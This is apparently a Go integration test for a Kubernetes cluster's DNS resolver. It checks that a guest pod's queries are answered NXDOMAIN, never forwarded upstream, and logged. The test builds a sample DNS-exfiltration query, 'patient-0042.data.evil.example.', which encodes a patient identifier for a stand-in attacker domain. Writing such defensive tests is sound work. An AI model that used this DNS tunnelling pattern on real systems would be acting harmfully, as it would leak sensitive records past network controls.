package claims

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sync/errgroup"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"data-space.liqo.io/pkg/values/apis"
	"data-space.liqo.io/test/dnsclient"
	"data-space.liqo.io/test/podcapture"
)

// nameOutside is what a guest asks for to carry data out: the servers of the domain would read it.
const nameOutside = "patient-0042.data.evil.example."

// namesStay asks for a name outside from a guest's pod, of servers of its own choice, while the pods of the resolver are
// captured: none of them may ask on. Then it looks for the question in the resolver's log.
func (w *World) namesStay(ctx context.Context) (string, error) {
	guests, err := w.guests(ctx)
	if err != nil {
		return "", err
	}
	guest, since := guests[0], time.Now().Add(-time.Second)
	resolvers, err := w.pods(ctx, apis.SystemNamespace, apis.LabelName+"="+apis.ResolverName)
	if err != nil {
		return "", err
	}
	asked := 0
	packets, err := w.beside(ctx, resolvers, func() (err error) {
		asked, err = w.askOutside(ctx, guest)
		return err
	})
	if err != nil {
		return "", err
	}
	seen := 0
	for _, packet := range packets {
		if packet.Out && packet.Dst.Port() == 53 {
			return "", fmt.Errorf("the resolver asked on: %s", packet)
		}
		if !packet.Out && packet.Dst.Port() == 53 {
			seen++
		}
	}
	if seen == 0 {
		return "", errors.New("no question was seen on the resolver's wire, so its silence proves nothing")
	}
	line, err := until(ctx, func(ctx context.Context) (string, error) { return w.logged(ctx, resolvers, guest, since) })
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("%d questions, %d packets of them at the resolver, each answered NXDOMAIN, none asked on; logged: %s", asked, seen, line), nil
}

// askOutside asks over UDP and TCP, in both families, and reports how often.
func (w *World) askOutside(ctx context.Context, guest corev1.Pod) (int, error) {
	space, err := PodNetwork(guest)
	if err != nil {
		return 0, err
	}
	defer space.Close()
	asked := 0
	err = space.Do(func() error {
		for _, server := range []string{"198.51.100.253:53", "[2001:db8::fd]:53"} {
			for _, tcp := range []bool{false, true} {
				q := dnsclient.Question{Name: nameOutside, Type: dnsmessage.TypeTXT, TCP: tcp}
				answer, err := dnsclient.Ask(ctx, netip.MustParseAddrPort(server), q)
				if err != nil {
					return err
				}
				if answer.Code != dnsmessage.RCodeNameError {
					return fmt.Errorf("%s was answered %s %v", nameOutside, answer.Code, answer.Records)
				}
				asked++
			}
		}
		return nil
	})
	return asked, err
}

// beside captures at all pods while do runs.
func (w *World) beside(ctx context.Context, pods []corev1.Pod, do func() error) ([]podcapture.Packet, error) {
	captures := []*podcapture.Capture{}
	for _, pod := range pods {
		capture, err := w.watch(ctx, pod)
		if err != nil {
			return nil, fmt.Errorf("watch %s: %w", pod.Name, err)
		}
		defer capture.Close()
		captures = append(captures, capture)
	}
	watching, stop := context.WithCancel(ctx)
	defer stop()
	group := errgroup.Group{}
	for _, capture := range captures {
		group.Go(func() error { return capture.Run(watching) })
	}
	err := do()
	time.Sleep(300 * time.Millisecond)
	stop()
	err = errors.Join(err, group.Wait())
	packets := []podcapture.Packet{}
	for _, capture := range captures {
		packets = append(packets, capture.Packets...)
	}
	return packets, err
}

// logged finds the line of the resolver's log about the guest's question.
func (w *World) logged(ctx context.Context, resolvers []corev1.Pod, guest corev1.Pod, since time.Time) (string, error) {
	stamp := metav1.NewTime(since)
	for _, pod := range resolvers {
		log, err := w.kube.CoreV1().Pods(pod.Namespace).GetLogs(pod.Name, &corev1.PodLogOptions{SinceTime: &stamp}).DoRaw(ctx)
		if err != nil {
			return "", fmt.Errorf("the log of %s: %w", pod.Name, err)
		}
		for line := range strings.Lines(string(log)) {
			if strings.Contains(line, "pod="+guest.Namespace+"/"+guest.Name+" ") && strings.HasSuffix(line, "name="+nameOutside+"\n") {
				return strings.TrimSpace(strings.TrimPrefix(line, "[INFO] ")), nil
			}
		}
	}
	return "", fmt.Errorf("no log of the resolver says that %s/%s asked for %s", guest.Namespace, guest.Name, nameOutside)
}
